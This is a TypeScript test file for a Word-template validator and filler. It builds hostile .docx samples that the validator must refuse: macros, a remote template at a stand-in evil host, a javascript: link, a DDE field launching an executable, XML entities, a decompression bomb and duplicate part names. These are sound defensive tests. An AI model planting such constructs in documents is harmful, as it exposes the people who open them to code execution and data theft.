import { nonEmpty } from '@baluarte/contract/kit/non-empty.ts';
import { rm } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { temporaryFolder } from '#test/temporary.ts';
import { hostileNames, testDocument } from '../test-document.ts';
import type { Words } from './docx-places.ts';
import { fillDocx, inspectDocx, renderDocx } from './render-docx.ts';
import { starterOf } from './starter.ts';
import { pack, unpack, type Parts } from './steady-package.ts';
import { testFill, testTemplate, testWords, writtenTemplate } from './test-template.ts';

let folder: string;
beforeAll(async () => {
  folder = await temporaryFolder('templates');
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const inspect = async (bytes: Uint8Array, name?: string) => inspectDocx(await writtenTemplate(folder, bytes, name));
const filled = async (texts: readonly string[], change: Partial<Words> = {}) =>
  fillDocx(testDocument(), testFill(await testTemplate(texts), { words: { ...testWords, ...change } }));
const bodyOf = async (bytes: Uint8Array) => (await unpack(bytes)).get('word/document.xml')?.toString() ?? '';
const plainOf = (xml: string) => xml.replaceAll(/<w:p[ >]/g, '\n$&').replaceAll(/<[^>]+>/g, '');

describe('a file that is to be a template', () => {
  test('tells its places, however Word cut them, also in heads, feet and tables', async () => {
    const places = await inspect(await testTemplate(['{{title}}', '{{ table.1 }}', '{{risks}}']));
    expect(places.toSorted()).toEqual(['authors', 'classification', 'company', 'risks', 'table.1', 'title', 'version']);
  });

  const relation = (parts: Parts, xml: string) => {
    const path = 'word/_rels/document.xml.rels';
    const text = parts.get(path)?.toString() ?? '';
    parts.set(path, Buffer.from(text.replace('</Relationships>', `${xml}$&`)));
  };
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const inBody = (parts: Parts, xml: string) => {
    const text = parts.get('word/document.xml')?.toString() ?? '';
    parts.set('word/document.xml', Buffer.from(text.replace('<w:body>', `<w:body>${xml}`)));
  };

  test.each<[string, string, (parts: Parts) => void]>([
    ['macros', 'reportTemplate.macros', (parts) => parts.set('word/vbaProject.bin', Buffer.from('x'))],
    [
      'a template elsewhere',
      'reportTemplate.outside',
      (parts) =>
        relation(
          parts,
          `<Relationship Id="x1" Type="${type}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
        ),
    ],
    [
      'a picture elsewhere',
      'reportTemplate.outside',
      (parts) =>
        relation(
          parts,
          `<Relationship Id="x1" Type="${type}/image" Target="file://server/x.png" TargetMode="External"/>`,
        ),
    ],
    [
      'a link to what runs',
      'reportTemplate.outside',
      (parts) =>
        relation(
          parts,
          `<Relationship Id="x1" Type="${type}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>`,
        ),
    ],
    [
      'another document drawn in',
      'reportTemplate.active',
      (parts) => relation(parts, `<Relationship Id="x1" Type="${type}/aFChunk" Target="chunk.html"/>`),
    ],
    [
      'a field that runs a program',
      'reportTemplate.active',
      (parts) =>
        inBody(
          parts,
          '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x.exe</w:instrText></w:r></w:p>',
        ),
    ],
    [
      'entities',
      'reportTemplate.unreadable',
      (parts) => parts.set('word/extra.xml', Buffer.from('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
    ],
    ['broken XML', 'reportTemplate.unreadable', (parts) => parts.set('word/extra.xml', Buffer.from('<a><b></a>'))],
    ['no document', 'reportTemplate.unreadable', (parts) => void parts.delete('word/document.xml')],
  ])('with %s is refused as %s', async (_, code, change) => {
    await expect(inspect(await testTemplate(['{{title}}'], change))).rejects.toMatchObject({ code });
  });

  test.each(['word/document.xml', 'Word/Document.xml'])(
    'with a second part named %s, which another program may read instead, is refused',
    async (name) => {
      // A library packs no name twice: that of a part is changed in the records of the file, to another of the same length.
      const placeholder = 'word/duplicat.xml';
      const bytes = await testTemplate(['{{title}}'], (parts) =>
        parts.set(placeholder, parts.get('word/document.xml') ?? Buffer.alloc(0)),
      );
      const forged = Buffer.from(bytes.toString('latin1').replaceAll(placeholder, name), 'latin1');
      await expect(inspect(forged)).rejects.toMatchObject({ code: 'reportTemplate.unreadable' });
    },
  );

  test('may link to pages of the web', async () => {
    const link = `<Relationship Id="x1" Type="${type}/hyperlink" Target="https://example.com/" TargetMode="External"/>`;
    expect(await inspect(await testTemplate(['{{title}}'], (parts) => relation(parts, link)))).toContain('title');
  });

  test.each([
    ['a text', Buffer.from('{{title}}'), 'plantilla.docx'],
    ['another package', async () => pack(new Map([['a.txt', Buffer.from('x')]])), 'plantilla.docx'],
    ['a file of another name', async () => testTemplate(['{{title}}']), 'plantilla.xlsx'],
  ] as const)('that is %s is refused', async (_, content, name) => {
    const bytes = typeof content === 'function' ? await content() : content;
    await expect(inspect(bytes, name)).rejects.toMatchObject({ code: 'reportTemplate.notWord' });
  });

  test('that unpacks to a hundred times its size is refused', async () => {
    const bomb = await testTemplate(['{{title}}'], (parts) =>
      parts.set('word/media/a.bmp', Buffer.alloc(60 * 1024 * 1024)),
    );
    await expect(inspect(bomb)).rejects.toMatchObject({ code: 'reportTemplate.tooMuch' });
  });
});

describe('a filled template', () => {
  test('holds its own text and look, and at its places words, tables, charts and whole parts', async () => {
    const bytes = await filled([
      '{{title}} de {{company}}',
      'Antes {{table.2}}',
      '{{picture.1}}',
      '{{section.4}}',
      '{{unknown}}',
    ]);
    const xml = await bodyOf(bytes);
    // One of the names in the table looks like places and stays.
    const text = plainOf(xml).replace('{{company}} {{table.risks}}', '');
    expect(text).toContain('Registro de Andina');
    expect(text).toContain('Versión 1.2');
    expect(text).toContain('{{unknown}}');
    expect(text).not.toMatch(/\{\{(?:title|company|version|table|picture|section)/);
    expect(xml).toContain('AA0000');
    expect(xml.match(/<w:tr>/g)?.length).toBeGreaterThan(hostileNames.length);
    expect(xml.match(/<c:chart /g)).toHaveLength(5);
    expect(xml).toContain('descr="Mapa de calor: 3 altos"');
    const ids = [...xml.matchAll(/<wp:docPr\b[^>]*?\bid="(\d+)"/g)].map(([, id]) => id);
    expect(new Set(ids).size).toBe(ids.length);
    const parts = await unpack(bytes);
    const styles = new Set(
      [...(parts.get('word/styles.xml')?.toString() ?? '').matchAll(/w:styleId="(\w+)"/g)].map(([, id]) => id),
    );
    for (const [, id] of nonEmpty(xml.matchAll(/<w:(?:pStyle|tblStyle) w:val="(\w+)"/g))) expect(styles).toContain(id);
    expect(
      [...parts.keys()].some(
        (path) =>
          path.startsWith('word/header') &&
          plainOf(parts.get(path)?.toString() ?? '').includes('Comité de riesgos · Andina'),
      ),
    ).toBe(true);
  });

  test('takes what people wrote as it is, a place in it included', async () => {
    const company = '{{company}} {{sections}} <w:p/> & \u0007';
    const xml = await bodyOf(await filled(['{{company}}', '{{table.2}}'], { company }));
    const text = plainOf(xml);
    expect(text).toContain('{{company}} {{sections}} &lt;w:p/&gt; &amp;');
    expect(text).toContain('{{company}} {{table.risks}} {FILENAME}');
  });

  test('uses the headings of the template where it has its own', async () => {
    const template = await testTemplate(['{{sections}}'], (parts) => {
      const path = 'word/styles.xml';
      const styles = parts.get(path)?.toString() ?? '';
      parts.set(
        path,
        Buffer.from(
          styles
            .replaceAll('w:styleId="Heading1"', 'w:styleId="Ttulo1"')
            .replaceAll('w:val="Heading 1"', 'w:val="heading 1"'),
        ),
      );
    });
    const xml = await bodyOf(await fillDocx(testDocument(), testFill(template)));
    expect(xml).toContain('<w:pStyle w:val="Ttulo1"/>');
    expect(xml).not.toContain('"Heading1"');
  });

  test('twice is the same bytes', async () => {
    const [one, two] = [await filled(['{{sections}}']), await filled(['{{sections}}'])];
    expect(Buffer.from(one).equals(Buffer.from(two))).toBe(true);
  });
});

test('a starter has its places where they were asked for, and no title where a part brings its own', async () => {
  const { language, timeZone, madeAt, accent } = testDocument();
  const starter = starterOf(
    { language, timeZone, madeAt, accent, isLandscape: true },
    [
      { title: 'Riesgos', level: 1, places: ['table.risks'] },
      { title: '', level: 1, places: ['section.sheets'] },
    ],
    [{ label: 'Versión', name: 'version' }],
  );
  const bytes = await renderDocx(starter);
  expect(await inspect(bytes)).toEqual(
    expect.arrayContaining(['title', 'company', 'version', 'table.risks', 'section.sheets']),
  );
  expect((await bodyOf(bytes)).match(/"Heading1"/g)).toHaveLength(1);
});
